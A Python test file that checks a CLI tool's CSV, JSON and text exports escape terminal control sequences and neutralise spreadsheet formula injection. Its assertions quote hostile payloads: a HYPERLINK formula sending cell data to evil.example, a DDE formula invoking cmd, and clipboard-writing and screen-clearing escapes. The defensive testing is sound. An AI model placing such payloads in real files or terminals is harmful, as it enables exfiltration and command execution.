"""Everything that leaves the tool is safe (issue 19): a valid dataset whose free text holds
terminal escapes, pastejacking line breaks and spreadsheet formulas reaches stdout only through
the rules of tui/core/text.py: text escaped, CSV cells escaped and formula-prefixed, JSON exact
once parsed but safe to `cat`."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from pathlib import Path

import pytest

from tui.cli import main
from tui.export.data import TABLES
from tui.views.panes import PANE_IDS

HOSTILE = Path(__file__).parents[1] / "hostile"
ESCAPES = HOSTILE / "escapes-in-text.yaml"
MINI = Path(__file__).parents[1] / "data" / "mini.yaml"
BIDI = {"\u061c", "\u200e", "\u200f", *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))}
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def acts(ch: str) -> bool:
    return unicodedata.category(ch) == "Cc" or ch in BIDI or ch in "\u2028\u2029"


def run(capsys, *argv) -> str:
    code = main(["--no-cache", "--data", str(ESCAPES), *argv])
    out, err = capsys.readouterr()
    assert code == 0, err
    assert not any(acts(c) for c in err.replace("\n", "")), err
    return out


def assert_text_safe(out: str) -> None:
    bad = sorted({repr(c) for c in out if acts(c) and c != "\n"})
    assert not bad, bad


def assert_csv_safe(out: str) -> list[list[str]]:
    assert not any(acts(c) for c in out if c not in "\n\t"), out
    rows = list(csv.reader(io.StringIO(out)))
    for row in rows:
        for cell in row:
            try:
                float(cell)
            except ValueError:
                assert not cell.startswith(FORMULA), (cell, row)
    return rows


@pytest.mark.parametrize("table", TABLES)
def test_export_table_csv_is_escaped_and_formula_safe(capsys, table):
    rows = assert_csv_safe(run(capsys, "export", "--format", "csv", "--table", table))
    assert rows  # a header at least


def test_export_csv_neutralises_what_the_dataset_plants(capsys):
    out = run(capsys, "export", "--format", "csv", "--table", "sources")
    rows = assert_csv_safe(out)
    cells = [c for r in rows for c in r]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert any("\\x1b]52;c;" in c for c in cells)
    countries = run(capsys, "export", "--format", "csv", "--table", "countries")
    assert "fine\\x0dOVERWRITTEN \\x1b[2J" in countries and "\\u202eevil\\u2028next" in countries


@pytest.mark.parametrize("pane", PANE_IDS)
def test_export_pane_csv_is_escaped_and_formula_safe(capsys, pane):
    assert_csv_safe(run(capsys, "export", "--format", "csv", "--pane", pane))


def test_numbers_stay_numbers_in_csv(capsys):
    rows = assert_csv_safe(run(capsys, "export", "--format", "csv", "--table", "meetings"))
    head, first = rows[0], rows[1]
    assert first[head.index("number")] == "1"


def test_export_json_is_exact_once_parsed_and_safe_to_cat(capsys):
    out = run(capsys, "export")
    assert_text_safe(out)
    data = json.loads(out)
    (de,) = [c for c in data["countries"] if c["id"] == "DE"]
    assert de["note"] == "fine\rOVERWRITTEN \x1b[2J\x1b[31m red \u202eevil\u2028next"


@pytest.mark.parametrize("fmt", ["text", "csv", "json"])
def test_diff_between_dates_is_safe(capsys, fmt):
    out = run(capsys, "diff", "--from", "2022", "--to", "2022", "--format", fmt)
    if fmt == "csv":
        rows = assert_csv_safe(out)
        assert len(rows) > 1
    else:
        assert_text_safe(out)
    if fmt == "text":
        assert "[@click=app.quit]Q[/] \\x1b[5m blink" in out
    if fmt == "json":
        json.loads(out)


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_diff_of_two_versions_is_safe(capsys, fmt):
    code = main(["diff", str(MINI), str(ESCAPES), "--format", fmt])
    out, err = capsys.readouterr()
    assert code == 0, err
    assert_text_safe(out)
    assert "\\x1b" in out or fmt == "json"


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_audit_is_safe(capsys, fmt):
    code = main(["audit", str(ESCAPES), "--format", fmt])
    out, err = capsys.readouterr()
    assert code == 0, err
    assert_text_safe(out)


@pytest.mark.parametrize("argv", [["export", "--format", "bibtex"], ["export", "--format", "ris"],
                                  ["export", "--format", "csl-json"], ["cite"]],
                         ids=lambda a: " ".join(a))
def test_every_other_text_output_is_safe(capsys, argv):
    assert_text_safe(run(capsys, *argv))
